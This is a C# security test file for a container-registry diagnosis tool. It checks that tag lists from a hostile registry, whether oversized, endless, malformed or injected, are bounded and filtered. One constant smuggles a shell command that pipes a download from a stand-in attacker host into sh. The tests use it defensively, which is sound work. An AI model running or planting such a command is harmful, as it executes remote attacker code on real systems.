using System.Text;
using PullDoctor.Registry.Probe;
using PullDoctor.RegistryFixtures.Hostile;
using PullDoctor.Security.Tests.Support;
using PullDoctor.Tests.Support;

namespace PullDoctor.Security.Tests.Bounds;

/// <summary>A registry serves monstrous, hostile or endless tag lists: what reaches the result is bounded and grammatical.</summary>
public sealed class TagListBoundsTests
{
    private const string Injection = "1.25.3;curl -s http://evil.example/p|sh;#";

    private static HostileRegistry MissingTagRegistry(Func<RecordedRequest, HostileResponse> tags)
    {
        var registry = HostileRegistry.Start();
        registry.On("/v2/", HostileResponse.Json(200, "{}"))
            .On("/v2/app/manifests/*", HostileResponse.RegistryError(404, "MANIFEST_UNKNOWN", "manifest unknown"))
            .On("/v2/app/tags/list", tags);
        return registry;
    }

    private static RegistryProbeOptions PlainHttp(HostileRegistry registry)
    {
        var options = AttackProbe.Options();
        options.PlainHttpRegistries.Add(registry.Host);
        return options;
    }

    [Test]
    public async Task HugeTagsOnEveryPage_NeverReachTheResult()
    {
        var huge = "1.25." + new string('a', 3_900_000);
        var page = 0;
        await using var registry = MissingTagRegistry(_ =>
        {
            var n = Interlocked.Increment(ref page);
            var answer = HostileResponse.Json(200, $$"""{"name":"app","tags":["{{huge}}","1.25.{{n}}"]}""");
            return n < 5 ? answer.WithHeader("Link", $"</v2/app/tags/list?n=1000&last={n}>; rel=\"next\"") : answer;
        });

        var result = await AttackProbe.RunAsync($"{registry.Host}/app:1.25.x", PlainHttp(registry));

        Assert.Multiple(() =>
        {
            Assert.That(result.Cause, Is.EqualTo(PullDoctor.Core.Causes.CauseCode.TagNotFound), AttackProbe.Explain(result));
            Assert.That(result.SuggestedTags, Is.Not.Empty);
            Assert.That(result.SuggestedTags, Has.All.Length.LessThanOrEqualTo(128));
            Assert.That(AttackProbe.Everything(result).Length, Is.LessThan(64 * 1024));
        });
    }

    [Test]
    public async Task TagsOutsideTheGrammar_AreDropped()
    {
        await using var registry = MissingTagRegistry(_ => HostileResponse.Json(200, $$"""{"name":"app","tags":["{{Injection}}","1.25.3\u001b[31m","1.25.3\n","-1.25.3",".1.25","1.25.3"]}"""));

        var result = await AttackProbe.RunAsync($"{registry.Host}/app:1.25.x", PlainHttp(registry));

        Assert.Multiple(() =>
        {
            Assert.That(result.SuggestedTags, Is.EqualTo(new[] { "1.25.3" }), AttackProbe.Explain(result));
            Assert.That(result.TagCount, Is.EqualTo(1));
            Assert.That(AttackProbe.Everything(result), Does.Not.Contain("curl"));
        });
    }

    [Test]
    public async Task InjectionTag_NeverReachesTheCommandLinesOutput()
    {
        await using var registry = MissingTagRegistry(_ => HostileResponse.Json(200, $$"""{"name":"app","tags":["{{Injection}}","1.25.3"]}"""));

        var run = await PullDoctorProcess.RunAsync(["diagnose", $"{registry.Host}/app:1.25.x", "--plain-http", "--timeout", "20"]);

        Assert.Multiple(() =>
        {
            Assert.That(run.Stdout, Does.Contain("1.25.3"), run.Stdout + run.Stderr);
            Assert.That(run.Stdout + run.Stderr, Does.Not.Contain("curl"));
        });
    }

    [Test]
    public async Task EndlessPagination_ReadsAtMostTenThousandTags()
    {
        var page = 0;
        await using var registry = MissingTagRegistry(_ =>
        {
            var n = Interlocked.Increment(ref page);
            var tags = string.Join(",", Enumerable.Range(0, 2000).Select(i => $"\"{n}.{i}.0\""));
            return HostileResponse.Json(200, $$"""{"name":"app","tags":[{{tags}}]}""").WithHeader("Link", $"</v2/app/tags/list?last={n}>; rel=\"next\"");
        });

        var result = await AttackProbe.RunAsync($"{registry.Host}/app:1.25.x", PlainHttp(registry));

        Assert.Multiple(() =>
        {
            Assert.That(result.TagCount, Is.LessThanOrEqualTo(10_000), AttackProbe.Explain(result));
            Assert.That(registry.Requests.Count(r => r.Path == "/v2/app/tags/list"), Is.LessThanOrEqualTo(10));
        });
    }

    [Test]
    public async Task EndlessTagPage_IsCutWhileStreaming()
    {
        await using var registry = MissingTagRegistry(_ => HostileResponse.Huge(200, "application/json", long.MaxValue / 2, "{\"tags\":[", "\"1.25.1\","));

        var result = await AttackProbe.RunAsync($"{registry.Host}/app:1.25.x", PlainHttp(registry));

        Assert.Multiple(() =>
        {
            Assert.That(result.Verdict, Is.Not.EqualTo(ProbeVerdict.Pullable), AttackProbe.Explain(result));
            Assert.That(registry.BodyBytesSent, Is.LessThan(16L * 1024 * 1024));
            Assert.That(result.SuggestedTags.Count, Is.LessThanOrEqualTo(TagSuggester.MaxSuggestions));
        });
    }
}
